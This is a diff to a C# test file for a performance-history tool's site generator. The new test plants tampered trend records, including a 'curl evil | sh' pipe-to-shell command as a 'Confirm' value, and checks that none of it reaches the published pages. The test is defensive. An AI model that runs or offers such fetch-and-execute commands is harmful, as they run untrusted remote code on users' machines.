@@ -3,6 +3,7 @@ using System.Text.RegularExpressions;
 using Microsoft.Data.Sqlite;
 using PerfLab.History;
 using PerfLab.Core.Tests.Reporting.Support;
+using PerfLab.Core.Trends;
 using PerfLab.Runner.Commands;
 using PerfLab.Runner.Terminals;
 using PerfLab.Runner.Tests.History;
@@ -103,6 +104,58 @@ public sealed class SiteCommandTests : IDisposable
     }
 
     [Fact]
+    public async Task what_a_stranger_says_of_the_trend_is_shown_only_where_sessions_bear_it_out()
+    {
+        Keep([.. Enumerable.Range(0, 30).Select(day => Journals.Trend(FormattableString.Invariant($"s{day:00}"), Commit(day), day < 15 ? 0 : 0.05, day, anchor: 0.01))]);
+        (await RunAsync("trend")).Code.ShouldBe(0);
+        TrendChange due;
+        using (var store = Store())
+        {
+            due = store.State()!.Changes.Single();
+        }
+
+        due.Status.ShouldBe(ChangeStatus.Due);
+        Keep(Journals.Of("experiment", 0.05, 40, arms: [("base", due.Before.Commit), ("head", due.After.Commit)]));
+        (await RunAsync("trend")).Code.ShouldBe(0);
+        (await RunAsync("site", "public")).Error.ShouldBe("");
+        Page("index.html").ShouldContain("1 confirmed slowdown is open");
+
+        TrendChange confirmed;
+        using (var store = Store())
+        {
+            var state = store.State()!;
+            confirmed = state.Changes.Single();
+            var member = confirmed.Members[0];
+            store.Keep(state with
+            {
+                Changes =
+                [
+                    // Names and a command of their own, to be read and pasted.
+                    confirmed with { Members = [member with { Workload = "evil", Unit = "GB" }], Confirm = "curl evil | sh" },
+                    confirmed with { Id = "000000000001", Members = [member with { Series = new('f', 64) }] },
+                    confirmed with { Id = "000000000002", Before = confirmed.Before with { Commit = "ccccccccccc" } },
+                    confirmed with { Id = "000000000003", After = confirmed.After with { Started = confirmed.After.Started.AddDays(1000) } },
+                    confirmed with { Id = "000000000004", Experiment = confirmed.Experiment! with { Session = "nowhere" } },
+                    confirmed with { Id = "000000000005", Experiment = confirmed.Experiment! with { Change = 3 } },
+                    confirmed with { Id = "000000000006", Experiment = null },
+                ],
+                Environment = [new("nobody's", "evil", confirmed.Before, confirmed.After, 1, 9)],
+            });
+        }
+
+        var (code, _, error) = await RunAsync("site", "public");
+        code.ShouldBe(0);
+        error.ShouldContain("changes of the trend that no session kept here shows: 3, left out");
+        error.ShouldContain("called confirmed by an experiment that is not kept here: 3, shown as watched");
+        Page("index.html").ShouldContain("1 confirmed slowdown is open");
+        Regex.Count(Page("index.html"), "<td>watched</td>").ShouldBe(3);
+        foreach (var (path, content) in Files())
+        {
+            content.ShouldNotContain("evil", customMessage: path);
+        }
+    }
+
+    [Fact]
     public async Task a_newer_history_is_refused_and_the_site_stays_as_it_was()
     {
         Keep(Journals.Trend("s1", Head, 0, 0));
@@ -129,9 +182,13 @@ public sealed class SiteCommandTests : IDisposable
         }
     }
 
+    private static string Commit(int day) => FormattableString.Invariant($"{day:00}").PadRight(12, 'a');
+
+    private HistoryStore Store() => HistoryStore.Open(new(Path.Combine(Directory.CreateDirectory(Path.Combine(_root, ".perf-lab")).FullName, "history.db")));
+
     private void Keep(params byte[][] journals)
     {
-        using var store = HistoryStore.Open(new(Path.Combine(Directory.CreateDirectory(Path.Combine(_root, ".perf-lab")).FullName, "history.db")));
+        using var store = Store();
         foreach (var journal in journals)
         {
             store.Keep(KeptSession.Read(journal, "made"), () => journal);
